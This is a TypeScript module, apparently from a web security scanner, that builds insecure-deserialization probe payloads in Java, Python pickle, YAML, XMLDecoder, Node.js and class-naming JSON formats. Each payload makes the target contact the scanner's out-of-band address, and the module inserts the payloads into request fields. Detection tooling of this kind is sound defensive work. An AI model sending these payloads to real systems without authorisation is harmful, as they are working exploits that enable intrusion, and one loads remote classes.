/**
 * Objects that call an address of ours while they are read, in the formats in which programs write objects. They look a name up or
 * ask for an address, and do nothing else.
 */
import type { OobAddress } from '../../../egress/oob/out-of-band.ts'
import type { ProbePoint } from '../insertion-points/inventory.ts'
import { leavesOf } from '../insertion-points/points.ts'
import { SERIALIZED } from '../insertion-points/serialized.ts'

export interface CallingObject {
  readonly flavour: string
  /** As in SERIALIZED; JSON for objects beside those that a value or a body holds. */
  readonly format: string
  /** Only a name is looked up, so it needs one. */
  readonly looksUp?: true
  /** For JSON the value of one member more. */
  readonly of: (address: OobAddress) => Uint8Array | string
}

/** Beginnings and ends of a HashMap with a URL as its key, as ObjectOutputStream writes it: its hash is that of the host's address. */
const MAP_OF_URL =
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IA' +
  'DGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEA' +
  'fgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3Q='
const END_OF_MAP = 'dAABL3EAfgAFdAAEaHR0cHB4dAABcXg='

const mapOfUrl = (host: string): Uint8Array => {
  const name = Buffer.from(host, 'latin1')
  const length = Buffer.from([name.length >> 8, name.length & 255])
  return Buffer.concat([Buffer.from(MAP_OF_URL, 'base64'), length, name, Buffer.from(END_OF_MAP, 'base64')])
}

export const YAML = 'YAML that names a class'
export const PICKLE_FORMAT = 'Python pickle'

export const OBJECTS: readonly CallingObject[] = [
  {
    flavour: 'Java, a map with a URL',
    format: 'Java object',
    looksUp: true,
    of: ({ host }) => mapOfUrl(host ?? ''),
  },
  {
    flavour: 'Python, pickle',
    format: PICKLE_FORMAT,
    of: ({ url }) => `curllib.request\nurlopen\n(S'${url}'\nNI3\ntR.`,
  },
  {
    flavour: 'Python, YAML',
    format: YAML,
    of: ({ url }) => `!!python/object/apply:urllib.request.urlopen ["${url}"]`,
  },
  {
    flavour: 'Java, YAML',
    format: YAML,
    of: ({ url }) => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}"]]]]`,
  },
  {
    flavour: 'Java, XMLDecoder',
    format: 'XMLDecoder document',
    of: ({ url }) =>
      `<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.net.URL"><string>${url}</string>` +
      '<void method="openStream"/></object></java>',
  },
  {
    flavour: 'Node.js, a function in JSON',
    format: 'JSON',
    of: ({ url }) => `_$$ND_FUNC$$_function(){return require('http').get('${url}').on('error',()=>0)}()`,
  },
  {
    flavour: 'Python, JSON that names a class',
    format: 'JSON',
    of: ({ url }) => JSON.stringify({ 'py/reduce': [{ 'py/type': 'urllib.request.urlopen' }, { 'py/tuple': [url] }] }),
  },
  {
    flavour: 'Java, JSON that names a class',
    format: 'JSON',
    looksUp: true,
    of: ({ host }) => JSON.stringify({ '@type': 'java.net.Inet4Address', val: host }),
  },
]

/** A document of YAML, by its name, that of what it is sent to, or its first line: what reads it may build objects, though it holds none yet. */
const isYaml = ({ name, value, place, request }: ProbePoint): boolean =>
  NAMES_YAML.test(name) ||
  (IN_BODY.has(place) && NAMES_YAML.test(request.url.replace(/^\w+:\/\/[^/]*/, ''))) ||
  /^(?:---|%YAML)\s|^[\w"'-]{1,40}:(?:[ \t][^\n]*)?\n\s*(?:-\s|[\w"'-]{1,40}:)/.test(value) ||
  /^-[ \t][^\n]*\r?\n(?:-[ \t]|[ \t]+[\w"'-]{1,40}:)/.test(value) ||
  /^-[ \t][\w"'-]{1,40}:[ \t]\S/.test(value)

const NAMES_YAML = /(?:^|[^a-z])ya?ml(?:$|[^a-z])/i
const IN_BODY: ReadonlySet<string> = new Set(['form', 'multipart', 'json', 'body'])

/** What stands there is, or may be, made of objects. */
export const holdsObjects = (point: ProbePoint): boolean => isYaml(point) || readingOf(point.value).formats.length > 0

/** A value of a place as one that holds the object, coded alike; null where it would hold none. */
export const objectFor = (point: ProbePoint, one: CallingObject, address: OobAddress): string | null => {
  return one.looksUp && address.host === null ? null : heldAs(point, one.format, one.of(address))
}

/** A value of a place as an object of that format, coded alike; null where it would hold none. */
export const heldAs = (point: ProbePoint, format: string, object: Uint8Array | string): string | null => {
  const read = readingOf(point.value)
  if (format === YAML && isYaml(point)) return read.code(Buffer.from(object))
  if (format === 'JSON') return read.json === null ? null : read.code(Buffer.from(withMember(read.json, object)))
  return read.formats.includes(format) ? read.code(Buffer.from(object)) : null
}

/**
 * A whole body of JSON with the object beside its members; the body's first leaf stands for it. `inert`: with the same words in a
 * text that nobody builds an object of.
 */
export const bodyFor = (point: ProbePoint, one: CallingObject, address: OobAddress, inert = false): string | null => {
  const { place, request, name } = point
  if (one.format !== 'JSON' || place !== 'json' || leavesOf(request.body ?? '')[0]?.[0] !== name) return null
  const json = membersOf(request.body ?? '')
  return json === null || (one.looksUp && address.host === null)
    ? null
    : withMember(json, `${inert ? ' ' : ''}${String(one.of(address))}`)
}

interface Reading {
  readonly formats: readonly string[]
  readonly json: Readonly<Record<string, unknown>> | null
  readonly code: (bytes: Buffer) => string
}

/** What a value is, and how bytes are written in its place. */
const readingOf = (value: string): Reading => {
  const formats = SERIALIZED.filter(([, pattern]) => pattern.test(value)).map(([format]) => format)
  const plain = membersOf(value)
  if (plain) return { formats, json: plain, code: (bytes) => bytes.toString('utf8') }
  if (/^aced0005/i.test(value)) return { formats, json: null, code: (bytes) => bytes.toString('hex') }
  const isCoded = value.length >= 8 && /^[\w+/-]+={0,2}$/.test(value)
  const json = isCoded ? membersOf(Buffer.from(value, 'base64').toString('utf8')) : null
  const coded = json !== null || (isCoded && formats.length > 0)
  return { formats, json, code: (bytes) => (coded ? base64Like(value, bytes) : bytes.toString('latin1')) }
}

const base64Like = (value: string, bytes: Buffer): string => {
  const text = bytes.toString(/[-_]/.test(value) ? 'base64url' : 'base64')
  return value.length % 4 === 0 ? text.padEnd(Math.ceil(text.length / 4) * 4, '=') : text.replace(/=+$/, '')
}

const membersOf = (text: string): Readonly<Record<string, unknown>> | null => {
  if (!/^\s*\{/.test(text)) return null
  try {
    const value: unknown = JSON.parse(text)
    return typeof value === 'object' && value !== null ? { ...value } : null
  } catch (error) {
    if (error instanceof SyntaxError) return null // Not JSON after all.
    throw error
  }
}

const withMember = (json: Readonly<Record<string, unknown>>, object: Uint8Array | string): string => {
  const text = String(object)
  return JSON.stringify({ ...json, qv: text.startsWith('{') ? (JSON.parse(text) as unknown) : text })
}
